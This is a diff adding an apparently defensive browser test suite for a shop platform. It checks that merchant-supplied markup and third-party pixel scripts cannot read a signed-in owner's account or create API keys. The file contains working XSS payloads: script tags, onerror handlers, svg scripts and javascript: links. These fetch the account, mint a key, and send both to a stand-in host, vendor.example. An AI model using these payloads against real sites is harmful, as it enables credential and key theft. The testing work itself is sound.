@@ -1,0 +1,141 @@
+import { sql } from 'kysely'
+import { describe, expect, it } from 'vitest'
+import { startService } from '../../support/service.ts'
+import { browserTimeout, chromiumMissing } from '../support/chromium.ts'
+import { openDashboard } from '../support/dashboard.ts'
+import { openOnDomain, openShopPages } from '../support/shop.ts'
+
+const service = await startService()
+const shop = await openShopPages(service)
+const owner = { cookie: shop.browser.cookie!, keys: `${shop.path}/api-keys` }
+
+const stolenKey = { name: 'stolen', key_type: 'restricted', scopes: ['order:list'] }
+
+/** Reads the account that is signed in, makes a key, and sends what it got to its own host. */
+const attack = (run: string) => `(async () => {
+  const get = async (path, options) => {
+    try {
+      return (await fetch('${service.appUrl}' + path, { credentials: 'include', ...options })).text()
+    } catch (error) {
+      return String(error)
+    }
+  }
+  const me = await get('/api/me')
+  const key = await get('${owner.keys}', {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(${JSON.stringify(stolenKey)}),
+  })
+  new Image().src = 'https://vendor.example/leak?' + new URLSearchParams({ run: '${run}', me, key })
+})()`
+
+/** Markup that runs the attack wherever a browser or a sanitizer lets it. */
+const hostile = [
+  '<p>Kopi <b>enak</b></p>',
+  `<script>${attack('inline')}</script>`,
+  '<script src="https://connect.facebook.net/en_US/fbevents.js"></script>',
+  `<img src="x" onerror="${attack('onerror').replaceAll('"', '&quot;')}">`,
+  `<svg><script>${attack('svg')}</script></svg>`,
+  `<iframe srcdoc="&lt;script src='https://connect.facebook.net/en_US/fbevents.js'&gt;&lt;/script&gt;"></iframe>`,
+  `<a href="javascript:${encodeURIComponent(attack('link'))}">Klik</a>`,
+  '<base href="https://vendor.example/">',
+  '<form action="https://vendor.example/"><button>Kirim</button></form>',
+].join('\n')
+
+/** A signed-in merchant's tab in which every foreign host answers with the attack. `leaks` is what reached the vendor. */
+async function openHostileTab() {
+  const tab = await openDashboard(service, owner.cookie)
+  const leaks: string[] = []
+  const scripts: string[] = []
+  await tab.context.route(
+    (url) => !['localhost', '127.0.0.1', domain].includes(url.hostname),
+    (route) => {
+      const url = route.request().url()
+      if (url.includes('/leak?')) leaks.push(url)
+      else if (route.request().resourceType() === 'script') scripts.push(url)
+      return route.fulfill({ contentType: 'text/javascript', body: attack('vendor') })
+    },
+  )
+  return { ...tab, leaks, scripts }
+}
+
+const domain = 'kopi.localhost'
+const keyNames = async () =>
+  (await shop.browser.get(owner.keys)).body.data.map(({ name }: { name: string }) => name) as string[]
+
+const agree = (storeId: string) => `localStorage.setItem('${storeId}:measuring', 'granted')`
+
+describe.skipIf(chromiumMissing)('A hostile shop', { timeout: browserTimeout }, () => {
+  it('reads and writes nothing of the dashboard with the script of a service', async () => {
+    for (const [vendor, pixel_id] of Object.entries({ meta: '123456789012345', tiktok: 'C4A0B1C2D3', ga4: 'G-ABC123' }))
+      await shop.send('PATCH', `/stores/${shop.store.id}/measuring/${vendor}`, {
+        is_enabled: true,
+        pixel_id,
+        token: 'a-token-of-the-shop',
+      })
+    const isPossible = await shop.browser.post(owner.keys, { ...stolenKey, name: 'made by its owner' })
+    expect(isPossible.status).toBe(201)
+    const before = await keyNames()
+    const tab = await openHostileTab()
+    const { page, leaks, scripts } = tab
+    await tab.context.addInitScript(agree(shop.store.unique_id))
+    await expect
+      .poll(async () => (await page.goto(shop.url))!.text(), { timeout: 20_000 })
+      .toContain('"measuring":[{"vendor"')
+    await page.getByRole('link', { name: 'Kopi Gayo Wine' }).click()
+    await page.getByRole('button', { name: 'Add to cart' }).click()
+    await page.getByText('Added to your cart.').waitFor()
+    for (const path of ['', '/cart', '/checkout', '/find-order']) {
+      await page.goto(shop.url + path)
+      // Even a script that something in the page asks for is not loaded.
+      const outcome = await page.evaluate(`new Promise((resolve) => {
+        const script = document.createElement('script')
+        script.onload = () => resolve('loaded')
+        script.onerror = () => resolve('blocked')
+        script.src = 'https://connect.facebook.net/en_US/fbevents.js?asked'
+        document.head.append(script)
+      })`)
+      expect([path, outcome]).toEqual([path, 'blocked'])
+    }
+    expect({ scripts, leaks, keys: await keyNames() }).toEqual({ scripts: [], leaks: [], keys: before })
+  })
+
+  it('runs nothing that a merchant wrote, even if it was stored unsanitized', async () => {
+    const { db } = service.service
+    const about = await shop.send('POST', `/stores/${shop.store.id}/pages`, {
+      kind: 'about',
+      title: 'Tentang kami',
+      slug: 'tentang-kami',
+      body: '<p>Kopi enak</p>',
+    })
+    const { id } = await shop.sell({ name: 'Kopi <script>alert(1)</script>', slug: 'kopi-jahat' })
+    await sql`update products set rich_description = ${hostile}
+      where id = (select product_id from variants where id = ${id})`.execute(db)
+    await sql`update store_pages set body = ${hostile} where id = ${about.id}`.execute(db)
+    const before = await keyNames()
+    const { page, leaks, scripts } = await openHostileTab()
+    page.setDefaultTimeout(20_000)
+    for (const path of ['/pages/tentang-kami', '/p/kopi-jahat']) {
+      await expect.poll(async () => (await page.goto(shop.url + path))!.status()).toBe(200)
+      await page.locator('main').getByText('enak').waitFor()
+      for (const link of await page.locator('main').getByText('Klik').all()) await link.click()
+      expect(await page.locator('main script, main iframe, main [onerror]').count()).toBe(0)
+    }
+    expect({ scripts, leaks, keys: await keyNames() }).toEqual({ scripts: [], leaks: [], keys: before })
+  })
+
+  it('loads the script on its own domain, from where nothing of the dashboard can be read or written', async () => {
+    const before = await keyNames()
+    const { page, context, leaks, scripts } = await openHostileTab()
+    const url = await openOnDomain(service, shop, domain)
+    await context.addInitScript(agree(shop.store.unique_id))
+    await page.goto(url)
+    await expect.poll(() => leaks.length, { timeout: 20_000 }).toBeGreaterThan(0)
+    expect(scripts).toContain('https://connect.facebook.net/en_US/fbevents.js')
+    for (const leak of leaks) {
+      const told = new URL(leak).searchParams
+      expect([told.get('me'), told.get('key')]).toEqual(['TypeError: Failed to fetch', 'TypeError: Failed to fetch'])
+    }
+    expect(await keyNames()).toEqual(before)
+  })
+})
